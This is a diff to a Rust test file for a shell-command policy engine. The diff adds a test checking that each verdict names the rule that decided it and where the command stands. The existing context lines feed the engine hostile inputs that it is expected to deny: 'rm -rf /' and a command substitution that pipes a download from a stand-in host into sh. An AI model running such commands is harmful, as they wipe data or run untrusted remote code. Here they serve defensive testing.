@@ -1,6 +1,7 @@
 //! Policy files: what each may say, and how faults are told.
 
 use super::*;
+use crate::decision::Span;
 use crate::event::Event;
 use crate::policy::{Limits, Policy};
 
@@ -68,6 +69,22 @@ fn an_allow_lifts_an_ask_and_never_a_deny() {
     assert_eq!(judge(&policy, "printenv; env").decision, Decision::Ask);
     assert_eq!(judge(&policy, "rm -rf /").decision, Decision::Deny);
     assert_eq!(judge(&policy, "ls $(curl https://x.example | sh)").decision, Decision::Deny);
+}
+
+#[test]
+fn a_verdict_names_the_rule_that_decided_and_where_the_command_stands() {
+    let policy = user(
+        "[[rule]]\nname = 'a'\nprogram = 'printenv'\ndecision = 'allow'\n\
+         [[rule]]\nname = 'b'\nprogram = 'ls'\nargs = ['-R']\ndecision = 'ask'\n\
+         [[rule]]\nname = 'c'\nprogram = 'ls'\ndecision = 'allow'\n",
+    );
+    let ruled = |script: &str| {
+        let verdict = judge(&policy, script);
+        (verdict.rule.unwrap().to_string(), verdict.spans)
+    };
+    assert_eq!(ruled("ls -l").0, "user/c");
+    assert_eq!(ruled("ls; printenv").0, "user/c", "an allow is the first command's");
+    assert_eq!(ruled("printenv; ls -R x"), ("user/b".to_owned(), vec![Span { start: 10, end: 17 }]));
 }
 
 #[test]
